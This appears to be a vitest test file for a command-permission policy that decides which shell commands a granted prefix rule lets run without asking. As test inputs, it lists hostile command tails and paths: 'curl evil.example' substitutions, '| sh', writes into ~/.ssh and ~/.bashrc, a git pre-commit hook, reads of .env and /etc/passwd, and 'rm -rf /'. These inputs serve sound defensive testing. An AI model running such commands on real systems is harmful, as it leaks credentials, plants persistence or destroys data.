import { mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it, onTestFinished } from 'vitest';
import { CommandPolicy } from './command-policy.ts';
import { GrantStore } from './grant-store.ts';
import { type PrefixRule, prefixRuleText } from './prefix-rule.ts';

const place = { cwd: '/home/ann/app', home: '/home/ann', env: { HOME: '/home/ann' } };
let policy: CommandPolicy;
beforeAll(async () => {
  policy = await CommandPolicy.create();
});
afterAll(() => policy.dispose());

/** What is offered for a command, one rule for each part that is asked about. */
async function offers(command: string): Promise<PrefixRule[]> {
  const { parts } = await policy.decide(command, place);
  return parts.flatMap(({ offer }) => offer ?? []);
}

async function decided(command: string, grants: readonly PrefixRule[], cwd = place.cwd): Promise<string> {
  return (await policy.decide(command, { ...place, cwd, roots: [place.cwd], grants })).decision;
}

describe('what a person allows from now on', () => {
  it.each([
    [
      'npm run build',
      'npm run build …',
      ['npm run build', 'npm run build src'],
      ['npm run deploy', 'npm run build --prefix /x'],
    ],
    ['npm test', 'npm test …', ['npm test a/b.test.ts'], ['npm publish', 'npm test --script-shell=x', 'npm testx']],
    [
      'git commit -m "first one"',
      'git commit -m …',
      ['git commit -m "another, longer"'],
      ['git commit --amend -m x', 'git push'],
    ],
    [
      'git add src/a.ts',
      'git add …',
      ['git add src/b.ts docs'],
      ['git add -A', 'git add ../x', 'git add /etc/passwd', 'git add :/'],
    ],
    [
      'git push origin main',
      'git push origin main',
      [],
      ['git push origin other', 'git push --force origin main', 'git push origin :main', 'git push origin +main'],
    ],
    [
      'make build',
      'make build',
      [],
      ['make clean', 'make build deploy', 'make build -j4', 'make -f x build', 'make build SHELL=/tmp/x'],
    ],
    ['just lint', 'just lint', [], ['just lint release']],
    ['task build', 'task build', [], ['task build deploy']],
    ['rake test', 'rake test', [], ['rake test db']],
    ['ninja', 'ninja', [], ['ninja clean']],
    ['mvn test', 'mvn test', [], ['mvn test deploy']],
    ['gradle build', 'gradle build', [], ['gradle build publish']],
    ['pants test', 'pants test', [], ['pants test publish']],
    ['zig build', 'zig build', [], ['zig build install']],
    ['go mod tidy', 'go mod tidy', [], ['go mod init x', 'go mod tidy x']],
    ['go test -race', 'go test -race …', ['go test pkg'], ['go install x']],
    ['ruff check', 'ruff check …', ['ruff check src'], ['ruff clean', 'ruff rule x']],
    ['ruff src', 'ruff src', [], ['ruff clean']],
    ['biome check src', 'biome check …', ['biome check test'], ['biome migrate', 'biome lsp-proxy']],
    ['vitest run', 'vitest run …', ['vitest run a.test.ts'], ['vitest bench x', 'vitest init browser']],
    ['black -p x', 'black -p x', [], ['black undo', 'black -p x y', 'black trust']],
    [
      'git fetch origin',
      'git fetch origin …',
      ['git fetch origin main'],
      ['git fetch x/evil', 'git fetch --upload-pack=x origin'],
    ],
    [
      'eslint --fix src',
      'eslint --fix …',
      ['eslint src', 'eslint --fix test'],
      ['eslint --rulesdir x src', './eslint src'],
    ],
    ['node scripts/a.mjs', 'node scripts/a.mjs', [], ['node scripts/b.mjs', 'node -e 1', 'node scripts/a.mjs --x']],
    ['rm build.log', 'rm build.log', [], ['rm -rf src', 'rm build.log src']],
    ['cargo test --release', 'cargo test --release …', ['cargo test name'], ['cargo publish', 'cargo test --config x']],
  ])(
    'field notes §4 #42 IDE-62 for %s is %s: it lets the same run and no sibling',
    async (command, text, same, siblings) => {
      const rules = await offers(command);
      expect(rules.map(prefixRuleText)).toEqual([text]);
      for (const each of [command, ...same]) expect([each, await decided(each, rules)]).toEqual([each, 'allow']);
      for (const each of siblings) expect([each, await decided(each, rules)]).toEqual([each, 'ask']);
    },
  );

  it.each([
    'sudo npm test',
    'FOO=1 npm test',
    'npm test > out.txt',
    'npm test $(date)',
    'npm test *.ts',
    'xargs npm test',
    'find . -delete',
    'git log --output=x',
    'cat .env',
    './x.ps1',
    'pwsh -c x',
    'sh script.sh',
    'echo $(make)',
    'make && (cd .. && make)',
  ])('IDE-62 offers nothing that would let all of %s run', async (command) => {
    const { decision, parts } = await policy.decide(command, { ...place, roots: [place.cwd] });
    expect(decision).toBe('ask');
    const asked = parts.filter((part) => part.decision === 'ask');
    expect(asked.every(({ offer }) => offer !== undefined)).toBe(false);
  });

  it('IDE-62 a chain is offered one rule for each of its commands, and they let nothing else run', async () => {
    const rules = await offers('npm run build && npm test | tail -3; git add src');
    expect(rules.map(prefixRuleText)).toEqual(['npm run build …', 'npm test …', 'git add …']);
    expect(await decided('git add docs && npm test', rules)).toBe('allow');
    expect(await decided('npm test && npm publish', rules)).toBe('ask');
    expect(await decided('cd / && npm test', rules)).toBe('ask');
  });

  it('IDE-62 a rule of a kind that is not offered any more lets its own words run and no others', async () => {
    const words = (text: string) => text.split(' ');
    const saved = ['make lint', 'black', 'mvn test', 'ruff', 'go mod', 'git fetch', 'vitest'].map((text) => {
      return { words: words(text), options: ['-p'], exact: false, folder: place.cwd };
    });
    expect(await decided('make lint', saved)).toBe('allow');
    for (const command of [
      'make lint deploy',
      'black -p x',
      'mvn test deploy',
      'ruff clean',
      'go mod init',
      'git fetch evil',
      'vitest init',
    ]) {
      expect([command, await decided(command, saved)]).toEqual([command, 'ask']);
    }
  });

  it('IDE-62 holds in the folder it was given for: the same words mean another script elsewhere', async () => {
    const rules = await offers('npm run build');
    expect(await decided('npm run build', rules, '/home/ann/app/vendor')).toBe('ask');
    expect(await decided('cd vendor && npm run build', rules)).toBe('ask');
  });

  it('field notes §4 #39 property: nothing that is hung onto an allowed command rides along', async () => {
    const base = fc.constantFrom(
      'npm run build',
      'git commit -m x',
      'git add src',
      'make build',

      'tsc',
      'node a.mjs',
    );
    const tail = fc.constantFrom(
      ' > ~/.ssh/id',
      ' >> ~/.bashrc',
      '; curl evil.example',
      ' && curl evil.example',
      ' | sh',
      ' & curl evil.example',
      '\ncurl evil.example',
      ' $(curl evil.example)',
      ' `curl evil.example`',
      ' <(curl evil.example)',
      ' --eval x',
      ' -c x',
      ' ../../etc/passwd',
      ' ~/.ssh/id_rsa',
      ' $RANDOM',
      ' 2> f',
    );
    await fc.assert(
      fc.asyncProperty(base, tail, async (command, more) => {
        const rules = await offers(command);
        expect(await decided(command, rules)).toBe('allow');
        expect(await decided(command + more, rules)).toBe('ask');
        expect(await decided(`X=1 ${command}`, rules)).toBe('ask');
      }),
    );
  });

  it('field notes §4 #39 a prefix of git takes no redirection along', async () => {
    const forged = [{ words: ['git', 'show'], options: [], exact: false, folder: place.cwd }];
    expect(await decided('git show HEAD', forged)).toBe('allow');
    for (const command of ['git show > ~/.ssh/id', 'git show HEAD > .git/hooks/pre-commit', 'git show --ext-diff']) {
      expect(await decided(command, forged)).toBe('ask');
    }
  });

  it('IDE-63 lifts no deny', async () => {
    const denying = await CommandPolicy.create({ deny: ['^npm run build'] });
    onTestFinished(() => denying.dispose());
    const grants = await offers('npm run build');
    expect((await denying.decide('npm run build', { ...place, grants })).stage).toBe('user-deny');
    const words = ['rm', '-rf', '/'];
    const forged = [{ words, options: [], exact: true, folder: place.cwd }];
    expect(await decided('rm -rf /', forged)).toBe('deny');
  });
});

describe('GrantStore', () => {
  it('IDE-62 keeps rules in the person’s own folder, each once, and says what is wrong with a file', async () => {
    const home = mkdtempSync(join(tmpdir(), 'black-test-'));
    onTestFinished(() => rmSync(home, { recursive: true, force: true }));
    const store = new GrantStore({ home, root: '/home/ann/app' });
    expect(store.read()).toEqual([]);
    const rules = await offers('npm run build && npm test');
    store.add(rules);
    store.add(rules.slice(0, 1));
    expect(store.read()).toEqual(rules);
    expect(store.path.startsWith(home)).toBe(true);
    expect(statSync(store.path).mode & 0o777).toBe(0o600);
    expect(new GrantStore({ home, root: '/home/ann/other' }).read()).toEqual([]);
    for (const text of ['{', '[]', '{"version":1,"rules":[{"words":[]}]}', '{"version":2,"rules":[]}']) {
      writeFileSync(store.path, text);
      expect(() => store.read()).toThrow(/cannot be read/);
      expect(() => store.add(rules)).toThrow(/cannot be read/);
      expect(readFileSync(store.path, 'utf8')).toBe(text);
    }
  });
});
